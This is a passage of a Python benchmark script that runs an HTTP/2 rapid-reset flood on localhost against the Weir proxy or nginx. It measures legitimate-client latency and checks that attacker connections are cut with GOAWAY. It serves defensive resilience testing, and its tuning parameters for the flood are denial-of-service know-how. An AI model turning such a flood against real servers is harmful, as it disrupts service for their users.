    load_cpus = bench.parse_cpu_list(args.load_cpus)

    def snapshot() -> Snapshot:
        proxy_cpu = bench.group_cpu_seconds(proxy.proc.pid)
        backend_cpu = bench.group_cpu_seconds(backend.pid)
        me = resource.getrusage(resource.RUSAGE_SELF)
        kids = resource.getrusage(resource.RUSAGE_CHILDREN)
        own = (proxy_cpu + backend_cpu + me.ru_utime + me.ru_stime + kids.ru_utime
               + kids.ru_stime)
        return Snapshot(t=loop.time(), wall=time.time(), proxy_cpu=proxy_cpu,
                        backend_cpu=backend_cpu,
                        proxy_ticks=bench.cpu_ticks(proxy_cpus),
                        load_ticks=bench.cpu_ticks(load_cpus), all_ticks=bench.cpu_ticks(),
                        own_cpu=own,
                        proxy_requests=proxy.requests(),
                        backend=backend_counts(backend_port))

    port = proxy.port
    client = LegitClient(port, args.rate)
    task = asyncio.create_task(client.run())
    phases: list[PhaseResult] = []
    marks: list[tuple[str, Snapshot]] = []

    def close_phase(name: str, start: Snapshot, end: Snapshot) -> None:
        # Answers still due are counted once the run is over: only the boundaries here.
        marks.append((name, start))
        marks.append(("", end))

    try:
        await asyncio.sleep(WARMUP_S)
        if task.done():
            task.result()
        s0 = snapshot()
        print(f"baseline: {args.baseline:g} s at {args.rate:g} req/s", file=sys.stderr)
        await asyncio.sleep(args.baseline)
        s1 = snapshot()
        close_phase("baseline", s0, s1)

        out = workdir / "attack.json"
        argv = [tools["taskset"], "-c", args.attacker_cpus or args.load_cpus, tools["nice"], "-n",
                str(args.attacker_nice),
                sys.executable, str(Path(__file__).resolve()), "--attack", str(port),
                "--attack-out", str(out), "--streams", str(args.streams),
                "--max-attack-seconds", str(args.max_attack_seconds),
                "--parallel", str(args.parallel), "--batch", str(args.batch),
                "--ahead", str(args.ahead), "--attacker-address", args.attacker_address]
        print(f"attack: {args.streams:,} streams, {args.parallel} connection(s) at a time, "
              f"at most {args.max_attack_seconds:g} s", file=sys.stderr)
        attacker = pm.start("attacker", argv)
        hard_stop = loop.time() + args.max_attack_seconds + 15
        last_report = loop.time()
        while attacker.popen.poll() is None:
            if loop.time() > hard_stop:
                raise bench.BenchError("the attacker did not stop in time")
            if task.done():
                task.result()
            await asyncio.sleep(0.05)
            if loop.time() - last_report >= 10:
                last_report = loop.time()
                print(f"  ... {loop.time() - s1.t:.0f} s into the attack", file=sys.stderr)
        s2 = snapshot()
        if attacker.popen.returncode != 0 or not out.exists():
            raise bench.BenchError(f"the attacker failed (exit {attacker.popen.returncode}); "
                                   f"its output ends:\n{attacker.log_tail()}")
        attack_doc: dict[str, Any] = json.loads(out.read_text())
        close_phase("attack", s1, s2)

        print(f"after: {args.after:g} s", file=sys.stderr)
        await asyncio.sleep(args.after)
        s3 = snapshot()
        close_phase("after", s2, s3)
    finally:
        client.stopping = True
        with contextlib.suppress(asyncio.CancelledError, Exception):
            await asyncio.wait_for(task, 1.0)
    # Wait for the answers still due, then stop.
    deadline = loop.time() + DRAIN_S
    while loop.time() < deadline and any(math.isnan(s.done) and not s.error and
                                         not math.isnan(s.sent) for s in client.samples):
        await asyncio.sleep(0.05)
    client.close()
    logged: list[tuple[float, str, str]] = []  # nginx's access log
    if proxy.access_log is not None:
        await asyncio.sleep(NGINX_LOG_FLUSH_S)  # until its buffer is written out
        with contextlib.suppress(FileNotFoundError):
            logged = access_log_lines(proxy.access_log.read_text(errors="replace"))
        # The attack's streams nginx took: those it made a request of (it logs each, a 499
        # when reset before the answer; those it refused at once it does not).
        attack_doc["proxy_taken"] = sum(1 for t, _, path in logged
                                        if path == ATTACK_PATH and t >= s0.wall)

    for i in range(0, len(marks), 2):
        name, start = marks[i]
        end = marks[i + 1][1]
        samples = phase_samples(client.samples, start.t, end.t)
        pl = phase_latency(samples)
        seconds = end.t - start.t
        phases.append(PhaseResult(
            name=name, seconds=seconds, latency=pl.from_sent, from_due=pl.from_due,
            lag_p99_ms=pl.lag_p99_ms, due=len(samples), errors=pl.errors,
            unanswered=pl.unanswered, unsent=pl.unsent,
            proxy_cpu_s=end.proxy_cpu - start.proxy_cpu,
            proxy_cpu_pct=100.0 * (end.proxy_cpu - start.proxy_cpu) / seconds,
            backend_cpu_s=end.backend_cpu - start.backend_cpu,
            proxy_cpu_busy_pct=busy_pct(start.proxy_ticks, end.proxy_ticks),
            load_cpu_busy_pct=busy_pct(start.load_ticks, end.load_ticks),
            other_cpu_pct=other_pct(start, end),
            proxy_requests=(statuses_between(logged, start.wall, end.wall)
                            if proxy.access_log is not None
                            else diff_counts(start.proxy_requests, end.proxy_requests)),
            backend=diff_counts(start.backend, end.backend)))
    # The backend's requests from the baseline on, once every answer is in, less the client's:
    # the attack's streams that the proxy passed on to the backend before the reset reached it.
    legit_sent = sum(1 for s in client.samples if s.due >= s0.t and not math.isnan(s.sent))
    backend_total = backend_counts(backend_port)["requests"] - s0.backend["requests"]
    attack_doc["legit"] = {"reconnects": client.reconnects,
                           "max_in_flight": client.max_in_flight}
    attack_doc["backend_attack_requests"] = backend_total - legit_sent
    return phases, attack_doc


def run(args: argparse.Namespace) -> Outcome:
    if args.target == "nginx":
        tools = bench.find_tools(("taskset", "nice", "nginx", "nghttp"),
                                 "apt-get install -y util-linux coreutils nginx nghttp2-client")
    else:
        tools = bench.find_tools(("taskset", "nice"), "apt-get install -y util-linux coreutils")
    if tools is None:
        raise bench.BenchError("a tool is missing (above)")
    start_load = loadavg()
    print(f"loadavg {start_load}", file=sys.stderr)
    if args.client_cpus:
        os.sched_setaffinity(0, bench.parse_cpu_list(args.client_cpus))
    workdir = Path(tempfile.mkdtemp(prefix="weir-reset-"))
    pm = bench.ProcessManager(workdir)
    taskset = tools["taskset"]
    try:
        backend_port = bench.free_port()
        backend = pm.start("backend", [taskset, "-c", args.load_cpus, sys.executable,
                                       str(Path(__file__).resolve()), "--serve-backend",
                                       str(backend_port)])
        bench.wait_for_port(backend, backend_port, args.startup_timeout)
        bench.wait_for_http_ok(backend, backend_port, args.startup_timeout)

        if args.target == "nginx":
            proxy = start_nginx(args, pm, tools, workdir, backend_port)
        else:
            proxy = start_weir(args, pm, taskset, workdir, backend_port)
        print(f"{proxy.name} on {HOST}:{proxy.port} (cpu {args.proxy_cpus}), backend on "
              f"{backend_port} (cpu {args.load_cpus})", file=sys.stderr)
        phases, attack_doc = asyncio.run(drive(args, pm, tools, proxy, backend, backend_port,
                                               workdir))
        bench._check_alive(proxy.proc)
        proxy_log = proxy.proc.log.read_text(errors="replace")
        error_log = ([] if proxy.error_log is None or not proxy.error_log.exists()
                     else proxy.error_log.read_text(errors="replace").splitlines())
    finally:
        bench.cleanup(pm, workdir, args.keep_tmp)

    records = [ConnRecord(**r) for r in attack_doc["records"]]
    summary = summarize_attack(records)
    before = next(p for p in phases if p.name == "baseline")
    during = next(p for p in phases if p.name == "attack")
    ratio = p99_ratio(before.latency, during.latency)
    ratio_due = p99_ratio(before.from_due, during.from_due)
    legit = attack_doc["legit"]
    outcome = Outcome(target=args.target, phases=phases, attack=summary,
                      attack_seconds=attack_doc["end"] - attack_doc["start"],
                      attacker_cpu_s=attack_doc["cpu_s"],
                      cuts=cuts_in_log(proxy_log) if args.target == "weir" else None,
                      proxy_taken=attack_doc.get("proxy_taken"), proxy_log_lines=error_log,
                      legit_reconnects=legit["reconnects"],
                      legit_max_in_flight=legit["max_in_flight"],
                      backend_attack_requests=attack_doc["backend_attack_requests"],
                      loadavg_start=start_load, loadavg_end=loadavg(), ratio=ratio,
                      ratio_due=ratio_due, notes=[])
    outcome.notes = verdict_notes(outcome, args)
    return outcome


def p99_ratio(before: Latency, during: Latency) -> float | None:
    if not before.p99_ms or math.isnan(before.p99_ms) or math.isnan(during.p99_ms):
        return None
    return during.p99_ms / before.p99_ms


def within(ratio: float | None) -> bool:
    return ratio is not None and ratio <= TARGET_RATIO


def passed(o: Outcome, args: argparse.Namespace) -> bool:
    """Issue 19's done-when: every attacker connection cut with GOAWAY ENHANCE_YOUR_CALM, all
    its streams reset, and the legit client without errors and its p99 within 2x, counted
    from the requests' sending and from when they were due."""
    a = o.attack
    cut = a.goaways.get(error_name(ENHANCE_YOUR_CALM), 0)
    errors = sum(sum(p.errors.values()) + p.unanswered for p in o.phases)
    return (a.sent >= args.streams and cut > 0 and cut == sum(a.goaways.values())
            and not a.without_goaway and not errors
            and within(o.ratio) and within(o.ratio_due))


def verdict_notes(o: Outcome, args: argparse.Namespace) -> list[str]:
    notes = []
    a = o.attack
    if a.sent < args.streams:
        notes.append(f"the attacker wrote only {a.sent:,} of {args.streams:,} streams in "
                     f"{o.attack_seconds:.0f} s")
    calm = error_name(ENHANCE_YOUR_CALM)
    if a.without_goaway or set(a.goaways) - {calm}:
        others = {k: v for k, v in a.goaways.items() if k != calm}
        notes.append(f"{a.without_goaway:,} attacker connection(s) ended without GOAWAY"
                     + (f", GOAWAYs other than {calm}: {others}" if others else ""))
    for p in o.phases:
        errs = sum(p.errors.values()) + p.unanswered
        if errs:
            notes.append(f"legit client, {p.name}: {errs} failed request(s): "
                         + ", ".join([*(f"{k} x{v}" for k, v in p.errors.items()),
                                      *([f"{p.unanswered} unanswered"] if p.unanswered else [])]))
        if p.unsent:
            notes.append(f"legit client, {p.name}: {p.unsent} request(s) due were never sent: "
                         "they still waited for a stream slot (the server's limit of streams "
                         f"unanswered) when the run ended, {DRAIN_S:g} s after the last phase")
    if o.legit_reconnects:
        notes.append(f"the legit client lost its connection {o.legit_reconnects} time(s)")
    for p in o.phases:
        if p.other_cpu_pct >= bench.OTHER_CPU_WARN:
            notes.append(f"{p.name}: other processes used {p.other_cpu_pct:.0f}% of a core: "
                         "the numbers are unreliable (rerun on a quiet machine)")
    during = next(p for p in o.phases if p.name == "attack")
    if during.proxy_cpu_pct >= 90:
        notes.append(f"{o.target} used {during.proxy_cpu_pct:.0f}% of its core during the "
                     "attack")
    if during.load_cpu_busy_pct is not None and during.load_cpu_busy_pct >= 95:
        notes.append(f"the load cpu ({args.load_cpus}) was {during.load_cpu_busy_pct:.0f}% busy "
                     "during the attack: the client's own timing may be part of its latency")
    if o.proxy_log_lines:
        notes.append(f"nginx's error log has {len(o.proxy_log_lines):,} line(s), the last: "
                     f"{o.proxy_log_lines[-1][:300]}")
    return notes


def render(o: Outcome, args: argparse.Namespace) -> str:
    rows: list[tuple[str, ...]] = [("phase", "seconds", "requests", "p50 ms", "p99 ms",
                                    "max ms", "p99 from due", "errors", "send lag p99",
                                    f"{o.target} cpu s", f"{o.target} cpu%",
                                    "proxy cpu busy", "load cpu busy", "other%",
                                    f"{o.target} 499s", "backend reqs", "backend conns")]

    def pct(v: float | None) -> str:
        return "-" if v is None else f"{v:.0f}%"

    for p in o.phases:
        rows.append((p.name, f"{p.seconds:.1f}", f"{p.latency.count:,}",
                     f"{p.latency.p50_ms:.3f}", f"{p.latency.p99_ms:.3f}",
                     f"{p.latency.max_ms:.3f}", f"{p.from_due.p99_ms:.3f}",
                     str(sum(p.errors.values()) + p.unanswered),
                     f"{p.lag_p99_ms:.3f}",
                     f"{p.proxy_cpu_s:.2f}", f"{p.proxy_cpu_pct:.0f}",
                     pct(p.proxy_cpu_busy_pct), pct(p.load_cpu_busy_pct),
                     f"{p.other_cpu_pct:.0f}",
                     f"{p.proxy_requests.get('499', 0):,.0f}",
                     f"{p.backend.get('requests', 0):,}",
                     f"{p.backend.get('connections', 0):,}"))
    a = o.attack
    lines = [f"legit client: {args.rate:g} req/s open loop on one h2c connection; latency from "
             "its HEADERS written to its answer's end (p99 from due: from when it was due)",
             bench.format_table(rows)]

    def said(ratio: float | None) -> str:
        if ratio is None:
            return "-"
        return f"{ratio:.2f}x, " + ("within" if within(ratio) else "OVER")

    lines.append(f"p99 during the attack / before: {said(o.ratio)} the {TARGET_RATIO:g}x target "
                 f"(from when they were due: {said(o.ratio_due)})")
    # Weir: streams up to its GOAWAYs' last stream ids; nginx: the requests it logged.
    taken = a.taken if o.proxy_taken is None else o.proxy_taken
    how = "" if o.proxy_taken is None else " (its access log)"
    rate = taken / o.attack_seconds if o.attack_seconds > 0 else 0.0
    lines.append(f"attacker: {taken:,} streams taken by {o.target}{how} ({a.sent:,} written) on "
                 f"{a.connections:,} connections in {o.attack_seconds:.1f} s ({rate:,.0f} "
                 f"streams/s), attacker CPU {o.attacker_cpu_s:.1f} s")
    lines.append(f"  GOAWAY: {a.goaways or 'none'}; refused at once (the address penalized): "
                 f"{a.refused:,}; other connections without GOAWAY: {a.without_goaway:,} "
                 f"({a.sent_without_goaway:,} streams written on connections without one); "
                 f"how they ended: {a.ends}")

    def fmt(d: dict[str, float]) -> str:
        return " / ".join(f"{k} {v:,.0f}" for k, v in d.items()) or "-"

    lines.append(f"  streams per connection before the cut (GOAWAY's last stream id): "
                 f"{fmt(a.taken_per_cut)}; written per connection: {fmt(a.sent_per_conn)}")
    c = o.cuts  # None for nginx: no log of its cuts to count
    if c is not None and c.warnings:
        lines.append(f"  Weir's log: {c.warnings:,} rapid-reset warnings for "
                     f"{len(c.opened_at_cut):,} connections; streams opened when cut: "
                     f"{fmt(spread(c.opened_at_cut))}; opened in all, after the cut too: "
                     f"{fmt(spread(c.opened_in_all))}")
    elif c is not None:
        lines.append("  Weir's log: no connection closed for rapid reset")
    lines.append(f"  the attack's streams {o.target} passed on to the backend: "
                 f"{o.backend_attack_requests:,} (its requests less the client's)")
    lines.append(f"legit client: {o.legit_reconnects} reconnects, at most "
                 f"{o.legit_max_in_flight} streams in flight")
    lines.append(f"loadavg at start {o.loadavg_start}; at end {o.loadavg_end}")
    lines.extend(f"note: {n}" for n in o.notes)
    return "\n".join(lines)


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    p = argparse.ArgumentParser(prog="bench/rapid_reset.py",
                                description=__doc__.split("\n\n")[0])
    p.add_argument("--target", choices=("weir", "nginx"), default="weir",
                   help="the proxy attacked (default weir); nginx for comparison, configured "
                        "as this file's doc says")
    p.add_argument("--streams", type=int, default=100_000,
                   help="streams the attacker opens and resets (default 100000)")
    p.add_argument("--max-attack-seconds", type=float, default=120.0,
                   help="the attack stops after this at the latest (default 120)")
    p.add_argument("--parallel", type=int, default=4,
                   help="attacker connections at a time (default 4)")
    p.add_argument("--batch", type=int, default=20,
                   help="HEADERS+RST_STREAM pairs per write (default 20)")
    p.add_argument("--ahead", type=int, default=10_000,
                   help="pairs written on a connection before the attacker waits for the "
                        "proxy's GOAWAY (default 10000, about 550 KB: twice what uvloop reads "
                        "at once)")
    p.add_argument("--attacker-address", default="127.0.0.2",
                   help="the attacker's source address (default 127.0.0.2): Weir refuses HTTP/2 "
                        "to an address it cut for abuse, which must not be the legit client's "
                        "(127.0.0.1); nginx has no such penalty")
    p.add_argument("--attacker-nice", type=int, default=10,
                   help="nice value of the attacker, which shares the load cpu with the "
                        "client and the backend (default 10)")
    p.add_argument("--rate", type=float, default=500.0,
                   help="the legit client's requests per second (default 500)")
    p.add_argument("--baseline", type=float, default=5.0, help="seconds (default 5)")
    p.add_argument("--after", type=float, default=3.0,
                   help="seconds measured after the attack (default 3)")
    p.add_argument("--proxy-cpus", default="0",
                   help="taskset CPU list for the proxy, Weir or nginx (default 0)")
    p.add_argument("--load-cpus", default="1",
                   help="taskset CPU list for the backend and the attacker (default 1)")
    p.add_argument("--attacker-cpus", default=None,
                   help="taskset CPU list for the attacker (default: the load cpus; see "
                        "Placement in this file's doc)")
    p.add_argument("--client-cpus", default=None,
                   help="taskset CPU list for this process, the legit client (default: none, "
                        "the scheduler places it)")
    p.add_argument("--weir-arg", action="append", default=[], metavar="ARG",
                   help="extra argument(s) for `python -m proxy run`, shell-split")
    p.add_argument("--startup-timeout", type=float, default=20.0)
    p.add_argument("--json", type=Path, metavar="FILE", help="also write the results as JSON")
    p.add_argument("--keep-tmp", action="store_true", help="keep the temp dir (config, logs)")
    p.add_argument("--serve-backend", type=int, metavar="PORT", help=argparse.SUPPRESS)
    p.add_argument("--attack", type=int, metavar="PORT", help=argparse.SUPPRESS)
    p.add_argument("--attack-out", help=argparse.SUPPRESS)
    args = p.parse_args(argv)
    if min(args.streams, args.parallel, args.batch, args.ahead) < 1 or args.rate <= 0:
        p.error("--streams, --parallel, --batch, --ahead and --rate must be positive")
    if args.baseline <= 0 or args.after < 0 or args.max_attack_seconds <= 0:
        p.error("--baseline and --max-attack-seconds must be positive, --after not negative")
    args.weir_args = [a for chunk in args.weir_arg for a in shlex.split(chunk)]
    return args


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    if args.serve_backend is not None:
        with contextlib.suppress(ImportError):
            import uvloop

            asyncio.set_event_loop_policy(uvloop.EventLoopPolicy())
        with contextlib.suppress(KeyboardInterrupt):
            asyncio.run(serve_backend(args.serve_backend))
        return 0
    if args.attack is not None:
        signal.signal(signal.SIGTERM, bench._raise_on_signal)
        return run_attacker(args)
    outcome, failed = bench.run_stopping_cleanly(lambda: run(args), bench.KEEP_TMP_HINT)
    if outcome is None:
        return failed
    print(render(outcome, args))
    if args.json is not None:
        doc = {"settings": {k: v for k, v in vars(args).items()
                            if k not in ("json", "serve_backend", "attack", "attack_out")},
               "result": asdict(outcome)}
        args.json.write_text(json.dumps(doc, indent=2, default=str) + "\n")
        print(f"wrote {args.json}", file=sys.stderr)
    # Exit 1 when the done-when does not hold: a finding to look at, as idle_memory.py does.
    return 0 if passed(outcome, args) else 1


if __name__ == "__main__":
    sys.exit(main())
